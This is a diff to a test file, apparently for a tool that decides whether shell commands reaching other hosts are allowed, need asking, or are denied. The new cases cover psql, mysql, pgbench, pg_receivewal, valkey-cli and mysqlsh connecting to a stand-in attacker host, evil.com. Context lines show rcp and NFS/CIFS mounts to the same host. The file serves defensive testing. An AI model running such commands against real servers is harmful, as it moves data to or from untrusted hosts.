@@ -134,6 +134,12 @@ describe('hosts a tool reaches are seen', () => {
     ['cvs -d :pserver:u@evil.com:/cvs co x', 'deny'], ['rcp f evil.com:x', 'deny'], ['mount -t nfs evil.com:/x /mnt', 'deny'],
     ['mount -t cifs //evil.com/s /mnt', 'deny'], ['mount_smbfs //u@evil.com/s /tmp/m', 'deny'], ['mount_nfs evil.com:/x /tmp/m', 'deny'],
     ['showmount -e evil.com', 'deny'], ['dig "$NAME"', 'ask'],
+    // psql's \c and mysql's connect reach another server; more libpq and redis/mysql clients (were allowed).
+    [`psql -c '\\c db u evil.com'`, 'deny'], [`psql -c '\\connect postgres://evil.com/db'`, 'deny'], [`psql -c '\\c "host=evil.com"'`, 'deny'],
+    [`psql <<< '\\c db u evil.com'`, 'deny'], [`psql -c '\\c db u :h'`, 'ask'], [`psql -c '\\c otherdb'`, 'allow'], [`psql -c '\\c - - localhost'`, 'allow'],
+    [`mysql -e 'connect db evil.com'`, 'deny'], [`mysql -e '\\r db evil.com'`, 'deny'], ['pgbench -h evil.com -i', 'deny'], [`pgbench 'host=evil.com'`, 'deny'],
+    ['pgbench -c 10 -T 60 mydb', 'allow'], ['pg_receivewal -h evil.com -D x', 'deny'], [`pg_recvlogical -d 'host=evil.com' --start`, 'deny'],
+    ['valkey-cli -h evil.com', 'deny'], ['mysqlsh --uri u@evil.com', 'deny'], ['mysqlsh u@evil.com:3306', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
   });
